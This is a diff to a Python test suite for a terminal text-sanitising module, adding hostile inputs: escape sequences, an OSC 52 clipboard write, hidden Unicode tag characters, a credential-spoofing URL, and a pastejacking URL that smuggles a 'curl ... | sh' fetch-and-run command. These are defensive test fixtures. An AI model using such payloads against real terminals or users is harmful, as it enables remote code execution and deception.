@@ -9,7 +9,10 @@ from hypothesis import strategies as st
 
 from tui.textclean import clean_line, clean_text, html_to_text, safe_url
 
-FORBIDDEN = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f]")
+FORBIDDEN = re.compile(
+    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b-\u200f\u061c\u2028\u2029"
+    r"\U000e0000-\U000e007f]"
+)
 
 HOSTILE = [
     ("\x1b[31mred\x1b[0m", "red"),
@@ -23,6 +26,10 @@ HOSTILE = [
     ("zero\u200bwidth", "zerowidth"),
     ("\x9b31mC1 CSI", "C1 CSI"),  # 8-bit CSI
     ("\x9d8;;http://evil/\x9clink", "link"),  # 8-bit OSC
+    ("\x9d52;c;ZXZpbA==\x9cC1 OSC 52", "C1 OSC 52"),  # 8-bit OSC 52 clipboard write
+    ("arabic\u061cmark", "arabicmark"),  # U+061C Arabic letter mark (a bidi control)
+    ("tag\U000e0069\U000e0067\U000e006echars\U000e007f", "tagchars"),  # hidden tag text
+    ("line\u2028sep", "line sep"),
 ]
 
 
@@ -54,10 +61,22 @@ def test_safe_url_only_http():
         "data:text/html,x",
         "http://a/\x1b[31m",
         "ftp://x/",
+        "http://host/nl.html\ncurl\t-s\thttp://host/x|sh",  # pastejacking
+        "http://host/a\tb",
+        "http://host/a\rb",
+        "http://host/a b",
+        "http://host/a\u00a0b",
+        "http://host/a\u2028b",
+        "http://host/a\u061cb",
+        "http://host/\U000e0041",
+        "http://host/a\x9db",
         "",
         None,
     ):
-        assert safe_url(bad) is None
+        assert safe_url(bad) is None, repr(bad)
+    # credentials in a link are dropped: never sent as Basic auth, never shown as the host
+    assert safe_url("http://user:pass@127.0.0.1:8/p?q=1") == "http://127.0.0.1:8/p?q=1"
+    assert safe_url("https://bank.example@evil.example/") == "https://evil.example/"
 
 
 @settings(max_examples=300, deadline=None)
